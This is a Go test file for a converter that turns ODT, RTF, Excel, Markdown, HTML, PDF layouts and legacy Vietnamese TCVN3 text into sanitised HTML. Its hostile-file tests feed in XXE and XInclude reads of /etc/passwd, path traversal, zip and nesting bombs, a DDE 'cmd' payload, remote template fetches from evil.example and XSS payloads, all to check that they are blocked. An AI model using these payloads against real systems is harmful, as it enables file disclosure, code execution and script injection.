package convert_test

import (
	"archive/zip"
	"bytes"
	"encoding/json"
	"maps"
	"slices"
	"strings"
	"testing"

	"congbo/internal/content"
	"congbo/internal/convert"
	"congbo/internal/fault"
	"congbo/internal/locale"
)

// zipped makes a zip of files, the first of which is the type that OpenDocument
// begins with.
func zipped(t testing.TB, files map[string]string) []byte {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	names := slices.SortedFunc(maps.Keys(files), func(a, b string) int {
		if a == "mimetype" || b == "mimetype" {
			return map[bool]int{true: -1, false: 1}[a == "mimetype"]
		}
		return strings.Compare(a, b)
	})
	for _, name := range names {
		h := &zip.FileHeader{Name: name, Method: zip.Deflate}
		if name == "mimetype" {
			h.Method = zip.Store
		}
		w, err := z.CreateHeader(h)
		if err != nil {
			t.Fatal(err)
		}
		w.Write([]byte(files[name]))
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// odt makes a text of OpenDocument of automatic styles and a body.
func odt(t testing.TB, styles, body string, more map[string]string) []byte {
	files := map[string]string{"mimetype": "application/vnd.oasis.opendocument.text",
		"content.xml": `<?xml version="1.0"?><office:document-content><office:automatic-styles>` + styles + `</office:automatic-styles><office:body><office:text>` + body + `</office:text></office:body></office:document-content>`}
	maps.Copy(files, more)
	return zipped(t, files)
}

// shown converts a file and returns it as a page shows it.
func shown(t *testing.T, kind string, data []byte) (string, *convert.Result) {
	t.Helper()
	r, err := convert.Convert(kind, data)
	if err != nil {
		t.Fatal(kind, locale.Error(locale.EN, err))
	}
	body, media, err := r.Body()
	if err != nil {
		t.Fatal(kind, locale.Error(locale.EN, err))
	}
	html := string(body.HTML(content.RenderOptions{Lang: locale.VI, MediaURL: func(id string, w int) string {
		if w > 0 {
			return ""
		}
		return media[id]
	}}))
	return strings.Join(strings.Fields(html), " "), r
}

// has checks that pieces stand in a page in their order.
func has(t *testing.T, page string, pieces ...string) {
	t.Helper()
	at := 0
	for _, p := range pieces {
		i := strings.Index(page[at:], p)
		if i < 0 {
			t.Errorf("%q is missing (in its place) in\n%s", p, page)
			return
		}
		at += i + len(p)
	}
}

const legacyLine = "Th«ng b¸o tuyÓn sinh n¨m 2026 cña Tr\u00adêng" // TCVN3

func TestOdt(t *testing.T) {
	styles := `<style:style style:name="T1" style:family="text"><style:text-properties fo:font-weight="bold"/></style:style>
<style:style style:name="T2" style:family="text" style:parent-style-name="T1"><style:text-properties fo:font-weight="normal" style:text-position="super 58%"/></style:style>
<style:style style:name="V" style:family="text"><style:text-properties style:font-name=".VnTime"/></style:style>
<style:style style:name="H" style:family="text"><style:text-properties text:display="none"/></style:style>
<style:style style:name="P1" style:family="paragraph" style:display-name="Title"/>
<text:list-style style:name="L1"><text:list-level-style-number text:level="1" style:num-format="1" text:start-value="3"/><text:list-level-style-bullet text:level="2" text:bullet-char="☐"/></text:list-style>`
	body := `<text:p text:style-name="P1">Tên bài</text:p><text:h text:outline-level="1">Mục một</text:h>
<text:p>Chữ <text:span text:style-name="T1">đậm<text:span text:style-name="T2">trên</text:span></text:span><text:s text:c="2"/>và <text:a xlink:href="https://vi.example/x">liên kết</text:a>, <text:a xlink:href="javascript:x()">không</text:a><text:note text:note-class="footnote"><text:note-citation>1</text:note-citation><text:note-body><text:p>Chú thích</text:p></text:note-body></text:note><text:span text:style-name="H">mật</text:span></text:p>
<text:p><text:span text:style-name="V">` + legacyLine + `</text:span></text:p>
<text:list text:style-name="L1"><text:list-item><text:p>ba</text:p><text:list><text:list-item><text:p>gạch</text:p></text:list-item></text:list></text:list-item><text:list-item><text:p>bốn</text:p></text:list-item></text:list>
<table:table><table:table-header-rows><table:table-row><table:table-cell table:number-columns-spanned="2"><text:p>Đầu</text:p></table:table-cell><table:covered-table-cell/></table:table-row></table:table-header-rows><table:table-row><table:table-cell><text:p>a</text:p></table:table-cell><table:table-cell><text:p>b</text:p></table:table-cell></table:table-row></table:table>
<text:p><draw:frame svg:width="3cm"><draw:image xlink:href="Pictures/1.gif"/><svg:desc>Cổng trường</svg:desc></draw:frame></text:p>
<text:p><draw:frame><draw:image xlink:href="http://elsewhere.example/1.gif"/></draw:frame></text:p>
<text:p>Có <draw:frame><draw:object xlink:href="./Object 1"/></draw:frame></text:p>
<text:p>Nhận <office:annotation office:name="c1"><dc:creator>Lan</dc:creator><dc:date>2026-01-02T03:04:05</dc:date><text:p>Xem lại</text:p></office:annotation>xét<office:annotation-end office:name="c1"/> này</text:p>`
	page, r := shown(t, convert.Odt, odt(t, styles, body, map[string]string{"Pictures/1.gif": "GIF89a\x01\x00\x01\x00\x00\x00\x00;",
		"Object 1/content.xml": `<math xmlns="http://www.w3.org/1998/Math/MathML"><semantics><mfrac><mi>a</mi><mn>2</mn></mfrac><annotation>a over 2</annotation></semantics></math>`}))
	if r.Title != "Tên bài" {
		t.Errorf("title %q", r.Title)
	}
	has(t, page, `>Mục một</h2>`, `Chữ <strong>đậm</strong><sup>trên</sup>`, `<a href="https://vi.example/x"`, `liên kết</a>, không`,
		`Thông báo tuyển sinh năm 2026 của Trường`, `<ol start="3">`, `ba`, `<ul>`, `gạch`, `bốn`, `<th`, `colspan="2"`, `Đầu`, `<td>`, `alt="Cổng trường"`, `<mfrac><mi>a</mi><mn>2</mn></mfrac>`, `Chú thích`)
	if strings.Contains(page, "mật") || strings.Contains(page, "javascript") || strings.Contains(page, "elsewhere") {
		t.Error(page)
	}
	for _, n := range []string{"convert.hidden_dropped", "convert.link_removed", "convert.legacy", "convert.picture_elsewhere", "convert.boxes"} {
		if !slices.Contains(r.Notes, n) {
			t.Errorf("no note %s among %v", n, r.Notes)
		}
	}
	if len(r.Comments) != 1 || r.Comments[0].Author != "Lan" || r.Comments[0].Text != "Xem lại" || r.Comments[0].Quote != "xét" {
		t.Errorf("%+v", r.Comments)
	}
}

func TestRTF(t *testing.T) {
	head := `{\rtf1\ansi\ansicpg1252\deff0{\fonttbl{\f0\fcharset0 Times New Roman;}{\f1\fcharset0 .VnTime;}{\f2\fcharset163 Times New Roman (Vietnamese);}{\f3\fcharset2 Symbol;}}
{\stylesheet{\s0 Normal;}{\s1 heading 1;}{\s15 Title;}}{\info{\title Kín}}`
	tests := []struct {
		name, body string
		want       []string
		not        string
		notes      string
	}{
		{name: "headings, marks, Unicode", body: `\pard\s1\b M\u7909 \'3fc m\u7897?t\par\pard\plain Ch\u7919? {\b\u273?\u7853?m} {\i nghi\uc2\u234 \'65\'5en\uc1 g} H\sub 2\nosupersub O\line x\par`,
			want: []string{`>Mụ`, `t</h2>`, `<strong>đậm</strong>`, `<em>`, `H<sub>2</sub>O<br> x`}},
		{name: "TCVN3 by its font", body: `\pard{\f1 Tr\'ad\'eang \'a7\'b9i h\'e4c Khoa h\'e4c T\'f9 nhi\'aan}\par`, want: []string{`Trường Đại học Khoa học Tự nhiên`}, notes: "convert.legacy"},
		{name: "the soft hyphen is a letter", body: `\pard{\f1 Tr\-\'eang \'a7\'b9i h\'e4c}\par`, want: []string{`Trường Đại học`}, notes: "convert.legacy"},
		{name: "TCVN3 without its font", body: `\pard Tr\'ad\'eang \'a7\'b9i h\'e4c Khoa h\'e4c T\'f9 nhi\'aan\par`, want: []string{`Trường Đại học Khoa học Tự nhiên`}, notes: "convert.legacy"},
		{name: "Windows-1258", body: `\pard{\f2 Ti\'ea\'ecng Vi\'ea\'f2t}\par`, want: []string{`Tiếng Việt`}},
		{name: "symbols", body: `\pard{\f3 a\'b7}b\par`, want: []string{`α•b`}},
		{name: "lists", body: `\pard\ls1{\listtext 1.\tab}m\par\ilvl1{\listtext a)\tab}s\u226?u\par\pard\ls1{\listtext 2.\tab}hai\par\pard{\listtext \u272?i\u7873?u 5.\tab}\b0 L\u7901?i\par`,
			want: []string{`<ol>`, `m`, `type="a"`, `sâu`, `hai`, `</ol>`, `<p>Điều 5. Lời`}},
		{name: "a table with spans", body: `\trowd\trhdr\cellx1000\cellx3000\pard\intbl A\cell B\cell\row\trowd\clvmgf\cellx1000\cellx2000\cellx3000\pard\intbl c\cell d\cell e\cell\row` +
			`\trowd\clvmrg\cellx1000\cellx2000\cellx3000\pard\intbl\cell f\cell g\cell\row\pard sau\par`,
			want: []string{`<table>`, `<th`, `A`, `colspan="2"`, `B`, `rowspan="2"`, `c`, `d`, `e`, `f`, `g`, `</table>`, `<p>sau</p>`}},
		{name: "a table in a table", body: `\pard\intbl x\par\pard\itap2 y\nestcell z\nestcell{\*\nesttableprops\trowd\cellx1\cellx900\nestrow}\pard\intbl w\cell\trowd\cellx2000\row\pard v\par`,
			want: []string{`<table>`, `x`, `<table>`, `y`, `z`, `</table>`, `w`, `</table>`, `v`}},
		{name: "links and fields", body: `\pard{\field{\*\fldinst HYPERLINK "https://vi.example/"}{\fldrslt đi}} {\field{\*\fldinst HYPERLINK "javascript:alert(1)"}{\fldrslt không}}\par`,
			want: []string{`<a href="https://vi.example/"`, `>`}, not: "javascript", notes: "convert.link_removed"},
		{name: "footnotes", body: `\pard Chữ{\super\chftn{\footnote\pard\chftn  Ch\u250? th\u237?ch}} sau\par`, want: []string{`sau`, `Chú thích`}},
		{name: "pictures", body: `\pard{\pict{\*\picprop{\sp{\sn wzDescription}{\sv Cau truong}}}\pngblip\picwgoal1440 89504e470d0a1a0a0000}\par`, want: []string{`<img`, `alt="Cau truong"`}},
		{name: "what is not text", body: `\pard{\object{\*\objdata 0105000002}{\result OLE}}{\header đầu}{\v ẩn}{\deleted bỏ}{\*\unknown {deep x}}{\*\bkmkstart a}Còn\par`,
			want: []string{`OLE`}, not: "deep", notes: "convert.drawing_lost convert.hidden_dropped convert.changes_accepted"},
		{name: "quotes and dashes", body: `\pard \ldblquote a\rdblquote\emdash b\~c\par`, want: []string{"“a”—b"}},
		{name: "pairs of UTF-16", body: `\pard \u-10179 ?\u-8704 ?!\par`, want: []string{"😀!"}},
	}
	for _, c := range tests {
		t.Run(c.name, func(t *testing.T) {
			page, r := shown(t, convert.RTF, []byte(head+c.body+"}"))
			has(t, page, c.want...)
			if c.not != "" && strings.Contains(page, c.not) {
				t.Errorf("%q stands in %s", c.not, page)
			}
			for n := range strings.FieldsSeq(c.notes) {
				if !slices.Contains(r.Notes, n) {
					t.Errorf("no note %s among %v", n, r.Notes)
				}
			}
			if strings.Contains(page, "Kín") {
				t.Error("the information about the file is no text")
			}
		})
	}
	_, r := shown(t, convert.RTF, []byte(head+`\pard {\*\atrfstart 7}Ch\u7919?{\*\atrfend 7}{\*\atnid L}{\*\atnauthor Lan}\chatn{\*\annotation{\*\atnref 7}\pard Xem\par} sau\par}`))
	if len(r.Comments) != 1 || r.Comments[0].Author != "Lan" || r.Comments[0].Text != "Xem" || r.Comments[0].Quote != "Chữ" {
		t.Errorf("%+v", r.Comments)
	}
}

// workbook makes an Excel file of the cells of sheets.
func workbook(t testing.TB, more map[string]string, sheets ...string) []byte {
	files := map[string]string{"_rels/.rels": `<Relationships><Relationship Id="a" Type="x/officeDocument" Target="xl/workbook.xml"/></Relationships>`}
	book, rels := "", `<Relationship Id="s" Type="x/styles" Target="styles.xml"/><Relationship Id="t" Type="x/sharedStrings" Target="sharedStrings.xml"/>`
	for i, s := range sheets {
		n := string(rune('1' + i))
		state, rest, _ := strings.Cut(s, "|")
		book += `<sheet name="Trang ` + n + `" state="` + state + `" r:id="r` + n + `"/>`
		rels += `<Relationship Id="r` + n + `" Type="x/worksheet" Target="worksheets/` + n + `.xml"/>`
		files["xl/worksheets/"+n+".xml"] = `<worksheet>` + rest + `</worksheet>`
	}
	files["xl/workbook.xml"] = `<workbook><sheets>` + book + `</sheets></workbook>`
	files["xl/_rels/workbook.xml.rels"] = `<Relationships>` + rels + `</Relationships>`
	files["xl/styles.xml"] = `<styleSheet><numFmts><numFmt numFmtId="170" formatCode="#,##0.00&quot; đ&quot;"/></numFmts>
<fonts><font><name val="Arial"/></font><font><b/><name val="Arial"/></font><font><name val=".VnTime"/></font></fonts>
<cellXfs><xf numFmtId="0" fontId="0"/><xf numFmtId="0" fontId="1"/><xf numFmtId="14" fontId="0"/><xf numFmtId="170" fontId="0"/><xf numFmtId="10" fontId="0"/><xf numFmtId="0" fontId="2"/></cellXfs></styleSheet>`
	files["xl/sharedStrings.xml"] = `<sst><si><t>Họ tên</t></si><si><r><t>Nguyễn </t></r><r><rPr><b/></rPr><t>Lan</t></r><rPh><t>no</t></rPh></si></sst>`
	maps.Copy(files, more)
	return zipped(t, files)
}

func TestXlsx(t *testing.T) {
	page, r := shown(t, convert.Xlsx, workbook(t, nil,
		`|<cols><col min="4" max="4" hidden="1"/></cols><sheetData>
<row r="1"><c r="A1" t="s" s="1"><v>0</v></c><c r="B1" t="inlineStr" s="1"><is><t>Ngày</t></is></c><c r="C1" s="1" t="str"><v>Tiền</v></c><c r="D1" s="1" t="str"><v>Kín</v></c></row>
<row r="2"><c r="A2" t="s"><v>1</v></c><c r="B2" s="2"><v>46022</v></c><c r="C2" s="3"><f>1+1</f><v>1234567.5</v></c></row>
<row r="3" hidden="1"><c r="A3" t="str"><v>ẩn</v></c></row>
<row r="4"><c r="A4" t="str"><v>Gộp</v></c><c r="C4" s="4"><v>0.125</v></c></row>
<row r="6"><c r="A6" t="str" s="5"><v>`+legacyLine+`</v></c></row></sheetData><mergeCells><mergeCell ref="A4:B4"/></mergeCells>`,
		`hidden|<sheetData><row r="1"><c r="A1" t="str"><v>bí mật</v></c></row></sheetData>`,
		`|<sheetData><row r="1"><c r="A1"><v>1.5</v></c><c r="B1" t="b"><v>1</v></c></row></sheetData>`))
	has(t, page, `>Trang 1</h2>`, `<table>`, `<th`, `Họ tên`, `Ngày`, `Tiền`, `Nguyễn <strong>Lan</strong>`, `31/12/2025`, `1.234.567,50 đ`, `colspan="2"`, `Gộp`, `12,50%`, `</table>`,
		`Thông báo tuyển sinh năm 2026 của Trường`, `>Trang 3</h2>`, `1,5`, `TRUE`)
	for _, no := range []string{"Kín", "ẩn", "bí mật", ">no<", "Trang 2"} {
		if strings.Contains(page, no) {
			t.Errorf("%q stands in %s", no, page)
		}
	}
	if !slices.Contains(r.Notes, "convert.sheet_hidden") {
		t.Error(r.Notes)
	}
}

func TestMarkdownAndPages(t *testing.T) {
	page, r := shown(t, convert.MD, []byte("---\ntitle: \"Tên bài\"\n---\n\nMột **đậm** [liên kết](https://vi.example/) [^1] và <script>alert(1)</script><b onclick=x>thẻ</b>\n\n"+
		"| a | b |\n|---|---|\n| 1 | 2 |\n\n1. x\n   - y\n2. z\n\n```\nmã  nguồn\nhai\n```\n\n![ảnh](https://xa.example/a.png)\n\n[^1]: Chú thích\n"))
	if r.Title != "Tên bài" {
		t.Errorf("title %q", r.Title)
	}
	has(t, page, `<strong>đậm</strong>`, `<a href="https://vi.example/"`, `<strong>thẻ</strong>`, `<th`, `<td>`, `<ol>`, `<ul>`, `z`, `<code>mã nguồn<br> hai</code>`, `Chú thích`)
	for _, no := range []string{"alert", "onclick", "xa.example", "title:"} {
		if strings.Contains(page, no) {
			t.Errorf("%q stands in %s", no, page)
		}
	}
	legacy := "<html><head><title>Tr\xad\xeang</title></head><body><p><font face=\".VnTime\">Tr\xad\xeang \xa7\xb9i h\xe4c</font></p>" +
		`<p style="display:none">kín</p><p style='mso-list:l0 level1 lfo1'><span style='mso-list:Ignore'>1.</span>m</p><p style='mso-list:l0 level2 lfo1'><span style='mso-list:Ignore'>-</span>h</p>` +
		`<p>x<math><mfrac><mi>a</mi><mi>b</mi></mfrac></math></p><p><a href="#_ftn1" name="_ftnref1">[1]</a></p>` +
		`<div style='mso-element:footnote-list'><div style='mso-element:footnote' id=ftn1><p><a href="#_ftnref1" name="_ftn1">[1]</a> Chú</p></div></div></body></html>`
	page, r = shown(t, convert.Web, []byte(legacy))
	has(t, page, `<p>Trường Đại học</p>`, `<ol>`, `m`, `<ul>`, `h`, `<mfrac>`)
	if strings.Contains(page, "kín") || !slices.Contains(r.Notes, "convert.hidden_dropped") || !slices.Contains(r.Notes, "convert.legacy") {
		t.Error(page, r.Notes)
	}
	page, _ = shown(t, convert.Words, []byte("Tr\xad\xeang \xa7\xb9i h\xe4c Khoa h\xe4c\r\n\r\nHai"))
	has(t, page, `<p>Trường Đại học Khoa học</p>`, `<p>Hai</p>`)
	page, _ = shown(t, convert.Words, []byte("\xff\xfeM\x00\xd9\x1et\x00")) // Một in UTF-16
	has(t, page, `<p>Một</p>`)
}

// Formulas of TeX in Markdown stay as they were typed, and that is told; money is
// money (R-I3).
func TestMarkdownTeX(t *testing.T) {
	for in, want := range map[string]string{
		`Cho $a_1*b_2*\{c\}$ và $x^2$.`:  `<p>Cho $a_1*b_2*\{c\}$ và $x^2$.</p>`,
		"$$\\frac{a_1}{b_2}\n  = c*d*$$": `<p>$$\frac{a_1}{b_2} = c*d*$$</p>`,
		`<b>$\alpha < \beta_1$</b>`:      `<p><strong>$\alpha &lt; \beta_1$</strong></p>`,
	} {
		page, r := shown(t, convert.MD, []byte(in))
		if page != want || !slices.Contains(r.Notes, "convert.tex_kept") {
			t.Errorf("%q: %s, %v", in, page, r.Notes)
		}
	}
	for in, want := range map[string]string{
		`Giá 5$ và *10*$`:         `<p>Giá 5$ và <em>10</em>$</p>`,
		`$5_000 $ *x*`:            `<p>$5_000 $ <em>x</em></p>`,
		`$\alpha`:                 `<p>$\alpha</p>`,
		`$$`:                      `<p>$$</p>`,
		strings.Repeat("$", 3001): `<p>` + strings.Repeat("$", 3001) + `</p>`,
	} {
		if page, r := shown(t, convert.MD, []byte(in)); page != want || len(r.Notes) > 0 {
			t.Errorf("%.40q: %.80s, %v", in, page, r.Notes)
		}
	}
}

// In a PDF the ư of TCVN3 is a hyphen; words with hyphens of their own keep them.
func TestPDFHyphenOfTCVN3(t *testing.T) {
	for in, want := range map[string]string{
		"Tr-\u00eang §¹i häc Thñy s¶n th«ng b¸o":        "Trường Đại học Thủy sản thông báo",
		"C¸c -íc tÝnh cña nhµ tr-êng, ch-¬ng tr×nh":     "Các ước tính của nhà trường, chương trình",
		"§µo t¹o tiÕng Anh-Ph¸p cña tr-êng §¹i häc 5-6": "Đào tạo tiếng Anh-Pháp của trường Đại học 5-6",
		"Tr-ờng viết bằng Unicode - không đổi":          "Tr-ờng viết bằng Unicode - không đổi",
	} {
		var words strings.Builder
		for w := range strings.FieldsSeq(in) {
			words.WriteString(`<word xMin="1" yMin="1" xMax="2" yMax="2">` + w + `</word>`)
		}
		task, err := json.Marshal(convert.PDFPages{Layout: []byte(`<html><body><doc><page width="595" height="842"><flow><block xMin="70" yMin="90" xMax="500" yMax="120"><line xMin="70" yMin="90" xMax="500" yMax="99">` +
			words.String() + `</line></block></flow></page></doc></body></html>`)})
		if err != nil {
			t.Fatal(err)
		}
		if page, _ := shown(t, convert.PDFLayout, task); page != "<p>"+want+"</p>" {
			t.Errorf("%q: %s", in, page)
		}
	}
}

func TestPDFLayout(t *testing.T) {
	word := func(s string) string { return `<word xMin="1" yMin="1" xMax="2" yMax="2">` + s + `</word>` }
	line := func(x, y, w string, words ...string) string {
		return `<line xMin="` + x + `" yMin="` + y + `" xMax="` + w + `" yMax="` + y + `2">` + strings.Join(words, "") + `</line>`
	}
	layout := `<html><body><doc><page width="595" height="842"><flow><block xMin="70" yMin="90" xMax="500" yMax="120">` +
		line("70", "90", "500", word("Thông"), word("báo")) + line("70", "100", "300", word("tuyển"), word("sinh.")) + line("90", "110", "500", word("Đoạn"), word("hai")) +
		`</block></flow><flow><block xMin="290" yMin="800" xMax="300" yMax="810">` + line("290", "800", "300", word("1")) + `</block></flow></page><page width="595" height="842"></page></doc></body></html>`
	task, err := json.Marshal(convert.PDFPages{Layout: []byte(layout), Scanned: []int{2}, Pictures: map[int][]byte{2: []byte("\xff\xd8\xff")}})
	if err != nil {
		t.Fatal(err)
	}
	page, r := shown(t, convert.PDFLayout, task)
	has(t, page, `<p>Thông báo tuyển sinh.</p>`, `<p>Đoạn hai</p>`, `<img`)
	if strings.Contains(page, "<p>1</p>") || !slices.Contains(r.Notes, "convert.pdf_scanned") || !slices.Contains(r.Notes, "convert.pdf_words") {
		t.Error(page, r.Notes)
	}
}

// What a file is is told by its bytes, not by what it is called (R-I3).
func TestKindOf(t *testing.T) {
	for _, c := range []struct{ name, data, want string }{
		{"a.txt", "{\\rtf1 x}", convert.RTF}, {"a.docx", "%PDF-1.4", convert.PDF}, {"a.doc", "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", convert.Doc},
		{"a.xls", "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", convert.Xls}, {"a.ppt", "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", ""}, {"a.md", "# x", convert.MD}, {"a.HTM", "x", convert.Web},
		{"a.bin", string(odt(t, "", "", nil)), convert.Odt}, {"a.bin", string(workbook(t, nil)), convert.Xlsx}, {"a.exe", "MZ", ""},
	} {
		if got := convert.KindOf(c.name, []byte(c.data)); got != c.want {
			t.Errorf("%s: %q, want %q", c.name, got, c.want)
		}
	}
}

// Each of these once brought a reader of such files down: a refusal that says
// why, or a clean text, within the budgets (R-I3).
func TestHostileFiles(t *testing.T) {
	deep := func(open, inner, close string, n int) string {
		return strings.Repeat(open, n) + inner + strings.Repeat(close, n)
	}
	bomb := strings.Repeat("<text:p>"+strings.Repeat(" ", 1<<20)+"</text:p>", 70)
	dtd := func(root string) string {
		return `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "` + strings.Repeat("lol", 100) + `"><!ENTITY b SYSTEM "file:///etc/passwd">]><` + root + `>&a;&b;</` + root + `>`
	}
	for _, c := range []struct {
		name, kind string
		data       []byte
		want       string // key of the fault; "" a text
		not        string // that may not stand in it
	}{
		{"odt: a bomb", convert.Odt, odt(t, "", bomb, nil), "convert.docx_bomb", ""},
		{"odt: entities", convert.Odt, zipped(t, map[string]string{"content.xml": dtd("office:document-content")}), "convert.docx_unreadable", ""},
		{"odt: nesting", convert.Odt, odt(t, "", deep("<text:section>", "<text:p>x</text:p>", "</text:section>", 5000), nil), "convert.docx_bomb", ""},
		{"odt: lists in lists", convert.Odt, odt(t, "", deep("<text:list><text:list-item>", "<text:p>x</text:p>", "</text:list-item></text:list>", 20), nil), "", ""},
		{"odt: macros", convert.Odt, odt(t, "", "<text:p>x</text:p>", map[string]string{"Basic/Standard/M.xml": "<x/>"}), "convert.macros", ""},
		{"odt: a picture outside", convert.Odt, odt(t, "", `<text:p>x<draw:frame><draw:image xlink:href="../../../etc/passwd"/></draw:frame></text:p>`, map[string]string{"../../etc/passwd": "root"}), "", "root"},
		{"odt: XInclude", convert.Odt, odt(t, "", `<text:p>x<xi:include href="file:///etc/passwd" parse="text"/></text:p>`, nil), "", "root:"},
		{"odt: a formula in itself", convert.Odt, odt(t, "", `<text:p>x<draw:frame><draw:object xlink:href="."/></draw:frame></text:p>`, nil), "", ""},
		{"odt: a cell repeated", convert.Odt, odt(t, "", `<table:table><table:table-row><table:table-cell table:number-columns-repeated="999999999"><text:p>x</text:p></table:table-cell></table:table-row></table:table>`, nil), "", ""},
		{"odt: styles in a ring", convert.Odt, odt(t, `<style:style style:name="A" style:family="text" style:parent-style-name="B"/><style:style style:name="B" style:family="text" style:parent-style-name="A"/>`, `<text:p><text:span text:style-name="A">x</text:span></text:p>`, nil), "", ""},
		{"xlsx: entities", convert.Xlsx, workbook(t, map[string]string{"xl/workbook.xml": dtd("workbook")}), "convert.docx_unreadable", ""},
		{"xlsx: macros", convert.Xlsx, workbook(t, map[string]string{"xl/vbaProject.bin": "x"}), "convert.macros", ""},
		{"xlsx: macros of Excel 4", convert.Xlsx, workbook(t, map[string]string{"xl/macrosheets/sheet1.xml": "x"}), "convert.macros", ""},
		{"xlsx: a million columns", convert.Xlsx, workbook(t, nil, `|<cols><col min="1" max="999999999" hidden="1"/></cols><sheetData><row r="999999999"><c r="ZZZ9"><v>1</v></c></row><row r="1"><c r="A1"><v>1</v></c><c r="XFD1"><v>2</v></c></row></sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>`), "", ""},
		{"xlsx: a formula is no formula", convert.Xlsx, workbook(t, nil, `|<sheetData><row r="1"><c r="A1" t="str"><f>WEBSERVICE("http://x")</f><v>=cmd|'/C calc'!A0</v></c></row></sheetData>`), "", "WEBSERVICE"},
		{"xlsx: a string that is none", convert.Xlsx, workbook(t, nil, `|<sheetData><row r="1"><c r="A1" t="s"><v>-5</v></c><c r="B1" t="s"><v>99999999999999</v></c><c r="C1" t="s" s="-9"><v>1</v></c></row></sheetData>`), "", ""},
		{"rtf: nesting", convert.RTF, []byte(`{\rtf1` + strings.Repeat("{", 100_000)), "convert.docx_bomb", ""},
		{"rtf: an object", convert.RTF, []byte(`{\rtf1{\object\objocx{\*\objdata ` + strings.Repeat("41", 1000) + `}}x}`), "", "AAAA"},
		{"rtf: a template elsewhere", convert.RTF, []byte(`{\rtf1{\*\template http://evil.example/x.dotm}{\field{\*\fldinst INCLUDEPICTURE "http://evil.example/p.png"}{\fldrslt y}}x}`), "", "evil"},
		{"rtf: a length beyond the end", convert.RTF, []byte(`{\rtf1{\pict\pngblip\bin999999999 abc}\bin-5 x\u}`), "", ""},
		{"rtf: groups that do not end", convert.RTF, []byte(`{\rtf1{\footnote{\shp{\shptxt{\annotation{\footnote x`), "", ""},
		{"rtf: cells without a table", convert.RTF, []byte(`{\rtf1\nestrow\row\cell\nestcell\itap9999\cell\trowd\row x\par}`), "", ""},
		{"rtf: wide rows", convert.RTF, []byte(`{\rtf1 ` + strings.Repeat(`\trowd`+strings.Repeat(`\cellx1\cell`, 300)+`\row`, 20) + `}`), "", ""},
		{"html: nesting", convert.Web, []byte(strings.Repeat("<div>", 100_000)), "convert.html_unreadable", ""},
		{"html: scripts", convert.Web, []byte(`<body onload=alert(1)><svg onload=alert(1)><script>alert(1)</script></svg><math><mi href="javascript:alert(1)">x</mi><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>` +
			`<a href="&#106;avascript:alert(1)">y</a><iframe srcdoc="<script>alert(1)</script>"></iframe><style>@import 'javascript:alert(1)'</style><img src="x" onerror="alert(1)"><object data="javascript:alert(1)"></object><base href="javascript:alert(1)//">`), "", "alert"},
		{"md: quotes in quotes", convert.MD, []byte(strings.Repeat(">", 50_000) + "x"), "convert.html_too_deep", ""},
		{"md: brackets", convert.MD, []byte(strings.Repeat("[", 20_000) + "x" + strings.Repeat("](", 20_000)), "convert.html_too_deep", ""},
		{"md: marks", convert.MD, []byte(strings.Repeat("*a_ ", 20_000)), "convert.html_too_deep", ""},
		{"md: as many marks as may be", convert.MD, []byte(strings.Repeat("*a_ ", 1_900)), "", ""},
		{"text: zeros", convert.Words, []byte("a\x00\x01\x02b"), "convert.text_binary", ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			r, err := convert.Convert(c.kind, c.data)
			if f, ok := fault.As(err); err != nil && (!ok || f.Key != c.want) || err == nil && c.want != "" {
				t.Fatalf("%v, want %q", err, c.want)
			}
			if err != nil {
				return
			}
			body, _, err := r.Body()
			if err != nil {
				t.Fatal(locale.Error(locale.EN, err))
			}
			if page := string(body.HTML(content.RenderOptions{Lang: locale.VI})); c.not != "" && strings.Contains(page, c.not) {
				t.Error(page)
			}
		})
	}
}

// sound is what holds of every file: no panic, and either a fault that can be
// said or a text that the schema takes.
func sound(t *testing.T, kind string, data []byte) {
	r, err := convert.Convert(kind, data)
	if err != nil {
		if _, ok := fault.As(err); !ok {
			t.Errorf("not a fault: %v", err)
		}
		return
	}
	if _, _, err := r.Body(); err != nil && !fault.Is(err, fault.TooLarge) {
		t.Errorf("the schema refuses it: %s", locale.Error(locale.EN, err))
	}
}

func FuzzOdt(f *testing.F) {
	f.Add(`<text:p>x</text:p>`, `<style:style/>`)
	f.Add(`<text:list><text:list-item><text:h>x</text:h></text:list-item></text:list><table:table><table:table-row><table:table-cell/></table:table-row></table:table>`, `<text:list-style style:name=""/>`)
	f.Fuzz(func(t *testing.T, body, styles string) { sound(t, convert.Odt, odt(t, styles, body, nil)) })
}

func FuzzRTF(f *testing.F) {
	f.Add([]byte(`{\rtf1\ansi{\fonttbl{\f1 .VnTime;}}\pard\f1 Tr\'ad\u234?\par\trowd\cellx9\intbl a\cell\row{\pict\pngblip 89}}`))
	f.Add([]byte(`{\rtf1{\field{\*\fldinst FORMDROPDOWN{\*\formfield{\fftype2\ffres1{\*\ffl a}{\*\ffl b}}}}{\fldrslt }}{\field{\*\fldinst SYMBOL 252 \\f "Wingdings"}}x\par}`))
	f.Add([]byte(`{\rtf1{\footnote x}{\field{\*\fldinst HYPERLINK "a"}{\fldrslt b}}\ls1{\listtext 1.}y\par\itap2\nestcell\nestrow}`))
	f.Fuzz(func(t *testing.T, data []byte) { sound(t, convert.RTF, data) })
}

func FuzzXlsx(f *testing.F) {
	f.Add(`<sheetData><row r="1"><c r="A1" s="3"><v>1.5</v></c></row></sheetData><mergeCells><mergeCell ref="A1:B2"/></mergeCells>`, `#,##0.00"đ";[Red]-0;d/m/yyyy h:mm`)
	f.Fuzz(func(t *testing.T, sheet, format string) {
		var escaped strings.Builder
		for _, r := range format {
			if r != '"' && r != '<' && r != '&' {
				escaped.WriteRune(r)
			}
		}
		sound(t, convert.Xlsx, workbook(t, map[string]string{"xl/styles.xml": `<styleSheet><numFmts><numFmt numFmtId="170" formatCode="` + escaped.String() + `"/></numFmts><cellXfs><xf/><xf numFmtId="170"/></cellXfs></styleSheet>`}, "|"+sheet))
	})
}

func FuzzPages(f *testing.F) {
	f.Add([]byte("# x\n\n| a |\n|---|\n| b |\n\n[^1]\n\n[^1]: y"))
